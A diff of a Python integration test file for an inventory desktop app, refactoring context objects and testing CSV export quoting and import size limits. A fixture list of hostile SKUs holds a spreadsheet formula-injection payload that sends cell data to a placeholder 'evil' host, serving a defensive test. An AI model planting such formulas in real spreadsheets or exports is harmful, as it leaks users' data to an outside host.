@@ -17,15 +17,15 @@ from pathlib import Path
 import httpx
 import pytest
 
-from backorder_desktop.app import AppContext
 from backorder_desktop.demo.server import DemoStore
 from backorder_desktop.domain.csv_cells import FORMULA_STARTS
 from backorder_desktop.domain.errors import UserFacingError
 from backorder_desktop.services.feed import MAX_IMPORT_BYTES
+from backorder_desktop.services.profile import Profile
 from tests.integration.cli_runner import run_cli
 
 MakeStore = Callable[..., DemoStore]
-MakeContext = Callable[..., AppContext]
+MakeContext = Callable[..., Profile]
 
 HOSTILE_SKUS = [
     '=HYPERLINK("http://evil/"&A1,"x")',
@@ -99,7 +99,7 @@ def test_formula_skus_are_quoted_in_the_export_and_imported_back_as_the_same_sku
     assert applied.code == 0, applied.stderr
     assert "Unknown" not in applied.stderr
     assert f"{len(HOSTILE_SKUS)} rows: {len(HOSTILE_SKUS)} applied, 0 unchanged." in applied.stdout
-    levels = {item.sku: item.level for item in make_context(store).mirror.stock_items()}
+    levels = {item.sku: item.level for item in make_context(store).parts.mirror.stock_items()}
     assert levels == wanted
 
 
@@ -132,13 +132,13 @@ def test_a_pipe_over_the_limit_is_refused_after_the_limit(
     os.write(write, b"sku,quantity\n" + b"A,1\n" * 20)  # 93 bytes, within the pipe's buffer
     os.close(write)
     with os.fdopen(read, "rb") as pipe, pytest.raises(UserFacingError) as refused:
-        context.feed.import_csv(pipe, apply=True, actor="test", max_bytes=50)
+        context.parts.feed.import_csv(pipe, apply=True, actor="test", max_bytes=50)
     assert refused.value.title == "File too large"
     assert refused.value.message.startswith(
         "The file is over 50 bytes; at most 50 bytes can be imported at once."
     )
 
-    within = context.feed.import_csv(
+    within = context.parts.feed.import_csv(
         io.BytesIO(b"sku,quantity\nA,1\n"), apply=False, actor="test", max_bytes=50
     )
     assert within.unknown == ["A"]
